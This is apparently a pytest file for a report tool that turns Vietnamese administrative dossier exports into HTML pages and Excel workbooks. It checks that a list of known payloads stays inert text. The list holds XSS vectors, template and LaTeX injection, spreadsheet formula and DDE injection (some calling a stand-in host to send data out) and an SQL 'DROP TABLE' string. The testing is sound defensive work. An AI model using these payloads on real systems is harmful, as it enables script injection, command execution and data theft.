"""Hostile: an export whose every text is a payload gives pages and workbooks with the same elements as a harmless one."""

import base64
import csv
import io
import json
import re
import subprocess
from collections import Counter
from contextlib import chdir

import openpyxl
import pytest
from lxml import etree, html
from patience import PATIENCE

from analysis import planning
from analysis.report import Report, render_reports

HOST = "payload.invalid"
CALLS = "document.title='run'"
PAYLOADS = [
    f"<script>{CALLS}</script>", f"<ScRiPt >{CALLS}</sCrIpT>", f"<scr<script>ipt>{CALLS}</scr</script>ipt>", f"</td><script>{CALLS}//",
    f"<script src=//{HOST}/a.js></script>", f'"><script>{CALLS}</script>', f"'><script>{CALLS}</script>", f"</title><script>{CALLS}</script>",
    f"</style><script>{CALLS}</script>", f"</textarea><script>{CALLS}</script>", f"--><script>{CALLS}</script>", f"]]><script>{CALLS}</script>",
    f"<img src=x onerror={CALLS}>", f'<img src="x" onerror="{CALLS}">', f"<img/src=x/onerror={CALLS}>", f'"><img src=x onerror={CALLS}>',
    f'<IMG """><script>{CALLS}</script>">', f'<img src="//{HOST}/a.png">', f"<img srcset='//{HOST}/b.png 1x'>", f"<svg onload={CALLS}>",
    f"<svg/onload={CALLS}>", f"<svg><script>{CALLS}</script></svg>", f"<svg><animate onbegin={CALLS} attributeName=x dur=1s>",
    f"<svg><use href='data:image/svg+xml,<svg onload={CALLS}>#x'/></svg>", f"<math><mtext></form><form><mglyph><style></math><img src onerror={CALLS}>",
    f"<body onload={CALLS}>", f"<input autofocus onfocus={CALLS}>", f"<details open ontoggle={CALLS}>", f"<video><source onerror={CALLS}>",
    f"<audio src=x onerror={CALLS}>", f"<marquee onstart={CALLS}>", f"<select autofocus onfocus={CALLS}>", f"<iframe src=javascript:{CALLS}>",
    f"<iframe srcdoc='<script>parent.{CALLS}</script>'>", f"<object data=//{HOST}/a.swf>", f"<embed src=//{HOST}/a.swf>",
    f"<link rel=stylesheet href=//{HOST}/a.css>", f"<base href=//{HOST}/>", f"<meta http-equiv=refresh content='0;url=//{HOST}/'>",
    f"<form action=//{HOST}/><button>x</button>", f"<style>@import '//{HOST}/a.css';</style>", f"<div style='background:url(//{HOST}/a)'>",
    f"<a href=javascript:{CALLS}>x</a>", f"<a href='jAvAsCrIpT&colon;{CALLS}'>x</a>", f"[x](javascript:{CALLS})", f"![x](//{HOST}/a.png)",
    f"<noscript><p title='</noscript><img src=x onerror={CALLS}>'>", f"<template><script>{CALLS}</script></template>",
    f"&lt;script&gt;{CALLS}&lt;/script&gt;", f"&#60;script&#62;{CALLS}&#60;/script&#62;", f"%3Cscript%3E{CALLS}%3C/script%3E",
    f"\\u003cscript\\u003e{CALLS}\\u003c/script\\u003e", f'" onmouseover={CALLS} x="', f"' autofocus onfocus={CALLS} x='",
    f"javascript:{CALLS}", "{{ 7 * 7 }}", "{% raw %}{{ config }}{% endraw %}", "${7*7}", "<%= 7*7 %>", "$\\frac{1}{0}$", "$x$ \\(y\\) $$", "\\input{/etc/passwd}",
    "=1+1", "=cmd|' /C calc'!A0", f'=HYPERLINK("http://{HOST}/?"&A1,"x")', f'=WEBSERVICE("http://{HOST}/")', "+1+1", "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0",
    f'=IMPORTXML("http://{HOST}/","//a")', '=DDE("cmd";"/C calc";"x")', "\uff1d1+1", "%0A=1+1", f"http://{HOST}/", f"file://{HOST}/a", "'; DROP TABLE dossiers; --",
]  # fmt: skip
"""Shapes of payloads that are publicly known: elements, attributes, addresses, templates, formulas."""

HEADINGS = [
    "Mã hồ sơ",
    "Mã TTHC",
    "Tên TTHC",
    "Lĩnh vực",
    "Đơn vị",
    "Phòng xử lý",
    "Kênh tiếp nhận",
    "Trạng thái",
    "Mức độ",
    "Đang chờ",
]
DAYS = ["Ngày nhận", "Hạn trả", "Ngày kết thúc xử lý"]
LINES = 1000


def write_export(path, texts):
    """A thousand dossiers of which every text is one of some texts; of each tenth the day of receipt too."""
    with path.open("w", encoding="utf-8", newline="") as file:
        lines = csv.writer(file)
        lines.writerow([*HEADINGS, *DAYS, texts[0]])
        for i in range(LINES):
            said = [texts[(i * (k + 1)) % len(texts)] for k in range(len(HEADINGS))]
            day = f"{1 + i % 28:02d}/{1 + i % 9:02d}/2022"
            days = [texts[i % len(texts)] if i % 10 == 0 else day, f"28/{2 + i % 9:02d}/2022", day if i % 3 else ""]
            lines.writerow([f"{i} {said[0]}", *said[1:], *days, said[1]])


def harmless(number):
    """As many different texts, that no reader takes for markup, numbers or formulas."""
    return [f"Chữ {chr(97 + i // 26)}{chr(97 + i % 26)} thường" for i in range(number)]


def desk(folder, texts):
    (folder / "data/raw").mkdir(parents=True)
    write_export(folder / "data/raw/ho-so_20221110.csv", texts)
    return folder


def render(folder, *notebooks):
    reports = [
        Report(
            path,
            folder / f"reports/{path.stem}.html",
            {"period": "2022"} if path == planning.ANNUAL else {},
            "Trang",
        )
        for path in notebooks
    ]
    with chdir(folder):
        assert render_reports(reports) == [None] * len(reports)
    return [report.output.read_text("utf-8") for report in reports]


def census(page):
    """How often each element and each attribute stands in a page."""
    elements = [each for each in html.document_fromstring(page).iter() if isinstance(each.tag, str)]
    return Counter(each.tag for each in elements) + Counter(f"{e.tag}@{name}" for e in elements for name in e.attrib)


def pictures(page):
    for source in html.fromstring(page).xpath("//img/@src"):
        yield etree.fromstring(base64.b64decode(source.partition("base64,")[2]))


def spaced(text):
    return " ".join(text.split())


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """The annual page of the hostile export, with the folder that it was made in."""
    folder = desk(tmp_path_factory.mktemp("hostile"), PAYLOADS)
    return folder, render(folder, planning.ANNUAL)[0]


def test_no_payload_becomes_an_element_an_attribute_or_a_link(hostile):
    _, page = hostile
    document = html.document_fromstring(page)
    assert not document.xpath(
        "//script[not(@id='record' and @type='application/json')] | //iframe | //object | //embed | //link | //base | //form | //svg | //math | //style[not(ancestor::head)]"
    )
    attributes = {name for element in document.iter() if isinstance(element.tag, str) for name in element.attrib}
    assert not [
        name
        for name in attributes
        if name.startswith("on") or name in {"srcset", "srcdoc", "action", "formaction", "style"}
    ]
    assert all(link.startswith("#") for link in document.xpath("//@href"))
    assert all(source.startswith("data:image/svg+xml;base64,") for source in document.xpath("//@src"))


def test_every_payload_that_a_page_shows_stands_there_as_it_was(hostile):
    _, page = hostile
    cells = {spaced(cell.text_content()) for cell in html.document_fromstring(page).xpath("//td | //th | //li")}
    shown = [text for text in PAYLOADS if any(spaced(text) in cell for cell in cells)]
    assert len(shown) > 45


def test_a_chart_draws_payloads_as_text(hostile):
    _, page = hostile
    drawn = [
        element.tag.rpartition("}")[2]
        for picture in pictures(page)
        for element in picture.iter()
        if isinstance(element.tag, str)
    ]
    assert drawn
    assert not {"script", "foreignObject", "a", "image", "iframe", "animate", "set"} & set(drawn)
    said = "".join("".join(picture.itertext()) for picture in pictures(page))
    assert "".join(CALLS.split()) in "".join(said.split())  # a name may stand in two lines


def test_workbooks_and_tables_for_people_hold_texts_and_no_formula(hostile, run, monkeypatch):
    folder, _ = hostile
    monkeypatch.chdir(folder)
    code, out, _ = run("form", "2022", "--by", "procedure")
    book = openpyxl.load_workbook(io.BytesIO((folder / out.split()[-1]).read_bytes()))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    texts = {spaced(str(cell.value)) for cell in cells}
    assert code == 0
    assert {spaced(text) for text in PAYLOADS if text[0] in "=+-@"} <= texts
    assert not [cell for cell in cells if cell.data_type == "f" and spaced(str(cell.value)) in map(spaced, PAYLOADS)]
    assert not [cell for cell in cells if cell.hyperlink]
    code, out, _ = run("count", "--by", "procedure", "--out", "counts.csv")
    with (folder / out.split()[-1]).open(encoding="utf-8-sig", newline="") as file:
        counted = [cell for line in csv.reader(file) for cell in line]
    assert code == 0
    assert "'=1+1" in counted
    assert not [cell for cell in counted if cell.startswith(("=", "@")) or re.match(r"[+-]\D", cell)]


def test_check_says_payloads_as_json_that_is_whole(hostile, run, monkeypatch):
    folder, _ = hostile
    monkeypatch.chdir(folder)
    _, out, _ = run("check", "--json", "data/raw")
    (file,) = json.loads(out)["files"]
    assert file["usable"]
    assert sum(file["sheets"][0]["fates"].values()) == LINES + 1


@pytest.mark.long
def test_all_pages_are_in_a_browser_what_they_are_of_a_harmless_export(tmp_path, chromium):
    """With the page's policy and without it: no other element or attribute, no request, and nothing runs."""
    notebooks = (planning.ANNUAL, planning.TRENDS, planning.QUALITY)
    pages = {
        name: render(desk(tmp_path / name, texts), *notebooks)
        for name, texts in (("hostile", PAYLOADS), ("harmless", harmless(len(PAYLOADS))))
    }
    for kind, (hostile, harmless_page) in enumerate(zip(pages["hostile"], pages["harmless"], strict=True)):
        # How many cells look like numbers differs with their texts; which elements and attributes there are does not.
        assert set(census(hostile)) == set(census(harmless_page))
        for policy in (True, False):
            opened = [
                in_browser(tmp_path / f"{kind}{policy}{i}", page, chromium, policy)
                for i, page in enumerate((hostile, harmless_page))
            ]
            assert set(census(opened[0])) == set(census(opened[1]))
            assert html.fromstring(opened[0]).findtext(".//title") == "Trang"


def in_browser(folder, page, chromium, policy):
    """A page as Chromium has it after loading, which asks for nothing and says nothing."""
    folder.mkdir()
    shown = folder / "page.html"
    shown.write_text(page if policy else re.sub(r"<meta http-equiv[^>]*>", "", page), encoding="utf-8")
    run = [
        chromium, "--headless", "--no-sandbox", "--disable-gpu", f"--user-data-dir={folder / 'user'}", "--enable-logging=stderr", "--v=0",
        "--host-resolver-rules=MAP * ~NOTFOUND", "--disable-background-networking", f"--log-net-log={folder / 'net.json'}",
        "--dump-dom", shown.as_uri(),
    ]  # fmt: skip
    done = subprocess.run(run, capture_output=True, text=True, timeout=PATIENCE, check=False)
    assert "CONSOLE" not in done.stderr
    assert HOST not in (folder / "net.json").read_text("utf-8", errors="replace")
    return done.stdout
